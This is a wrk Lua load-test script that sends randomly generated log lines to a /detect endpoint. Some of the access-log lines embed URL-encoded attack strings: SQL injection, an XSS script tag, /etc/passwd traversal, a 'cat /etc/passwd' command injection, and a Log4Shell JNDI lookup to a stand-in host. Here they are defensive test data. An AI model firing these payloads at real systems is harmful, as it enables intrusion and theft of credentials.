-- wrk script: POST /detect with bodies of N lines (N = first script argument).
-- Every request gets freshly generated lines, so the service sees traffic as varied as a real shipper's:
-- web access lines with their own paths, queries and agents (mostly new to the score cache), routine
-- application, syslog, JSON and key=value lines whose numbers, addresses and users change, and a share of
-- attacks and failures.

local sections = { "products", "catalog", "blog", "news", "docs", "help", "account", "orders", "cart", "search",
  "users", "articles", "events", "tickets", "reports", "invoices", "media", "downloads", "support", "forum" }
local words = { "summer", "sale", "laptop", "shoes", "coffee", "garden", "review", "guide", "install", "release",
  "notes", "pricing", "winter", "jacket", "camera", "lens", "tent", "bike", "helmet", "chair", "desk", "lamp",
  "kitchen", "knife", "tea", "python", "invoice", "welcome", "about", "contact", "careers", "privacy", "terms",
  "madrid", "berlin", "london", "tokyo", "paris", "oslo", "blue", "red", "green", "large", "small", "modern" }
local keys = { "q", "page", "sort", "limit", "ref", "utm_source", "category", "id", "filter", "color", "size", "lang" }
local agents = {
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
  "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
  "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
  "curl/8.5.0", "python-requests/2.31.0", "Go-http-client/2.0", "kube-probe/1.29",
}
local users = { "alice", "bob", "deploy", "jenkins", "ubuntu", "backup", "postgres", "nagios", "git", "ops" }
local services = { "checkout", "payments", "inventory", "auth", "search", "billing", "gateway", "orders", "shipping" }
local attacks = { "1%27%20OR%20%271%27%3D%271", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "..%2F..%2F..%2Fetc%2Fpasswd",
  "1%3Bcat%20%2Fetc%2Fpasswd", "%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D", "1%20UNION%20SELECT%20password%20FROM%20users" }

local r = math.random
local function pick(list) return list[r(#list)] end
local function ip() return r(1, 223) .. "." .. r(0, 255) .. "." .. r(0, 255) .. "." .. r(1, 254) end
local function clock() return string.format("2026-03-%02d %02d:%02d:%02d,%03d", r(1, 28), r(0, 23), r(0, 59), r(0, 59), r(0, 999)) end

local function access(target, status)
  return string.format('%s - - [04/Mar/2026:%02d:%02d:%02d +0000] \\"GET %s HTTP/1.1\\" %d %d \\"-\\" \\"%s\\"',
    ip(), r(0, 23), r(0, 59), r(0, 59), target, status, r(120, 250000), pick(agents))
end

local templates = {
  function() return access("/" .. pick(sections) .. "/" .. pick(words) .. "-" .. pick(words) .. "-" .. r(1, 9999), 200) end,
  function() return access("/" .. pick(sections) .. "?" .. pick(keys) .. "=" .. pick(words) .. "&" .. pick(keys) .. "=" .. r(1, 500), 200) end,
  function() return access("/static/js/app." .. string.format("%08x", r(0, 2147483647)) .. ".js", 304) end,
  function() return access("/" .. pick(sections) .. "?" .. pick(keys) .. "=" .. pick(attacks), 200) end,
  function() return clock() .. " INFO [http-nio-8080-exec-" .. r(1, 40) .. "] c.e.orders.OrderService - Order " .. r(10000, 99999) .. " created for customer " .. r(100, 9999) .. " in " .. r(3, 300) .. "ms" end,
  function() return clock() .. " WARN [" .. pick(services) .. "-client] c.e.gateway.RouteFilter - Retrying request to " .. pick(services) .. " (attempt " .. r(1, 2) .. " of 3)" end,
  function() return clock() .. " ERROR [" .. pick(services) .. "-client] c.e.gateway.RouteFilter - Call to " .. pick(services) .. " timed out after " .. r(5000, 60000) .. "ms" end,
  function() return "Mar  4 10:" .. r(10, 59) .. ":" .. r(10, 59) .. " web-0" .. r(1, 4) .. " sshd[" .. r(1000, 65000) .. "]: Accepted publickey for " .. pick(users) .. " from " .. ip() .. " port " .. r(1024, 65535) .. " ssh2" end,
  function() return "Mar  4 10:" .. r(10, 59) .. ":" .. r(10, 59) .. " web-0" .. r(1, 4) .. " sshd[" .. r(1000, 65000) .. "]: Failed password for invalid user " .. pick(words) .. " from " .. ip() .. " port " .. r(1024, 65535) .. " ssh2" end,
  function() return '{\\"ts\\":\\"2026-03-04T10:01:02Z\\",\\"level\\":\\"info\\",\\"service\\":\\"' .. pick(services) .. '\\",\\"msg\\":\\"request completed\\",\\"path\\":\\"/api/' .. pick(sections) .. '\\",\\"status\\":200,\\"duration_ms\\":' .. r(1, 400) .. '}' end,
  function() return "ts=2026-03-04T10:01:02Z level=info msg=\\\"request completed\\\" method=GET path=/v1/" .. pick(sections) .. " status=200 duration=" .. r(1, 500) .. "ms" end,
  function() return "081109 2036" .. r(10, 59) .. " " .. r(100, 999) .. " INFO dfs.DataNode$PacketResponder: PacketResponder " .. r(0, 2) .. " for block blk_" .. r(1000000, 9999999) .. r(100000, 999999) .. " terminating" end,
}

local count = 1

function init(args)
  count = tonumber(args[1] or "1")
  math.randomseed(os.time() + (tonumber(tostring({}):match("0x(%x+)"), 16) or 0))
end

function request()
  local lines = {}
  for i = 1, count do
    lines[i] = '"' .. pick(templates)() .. '"'
  end
  return wrk.format("POST", "/detect", { ["Content-Type"] = "application/json" },
    '{"lines":[' .. table.concat(lines, ",") .. '],"source":"load-test"}')
end
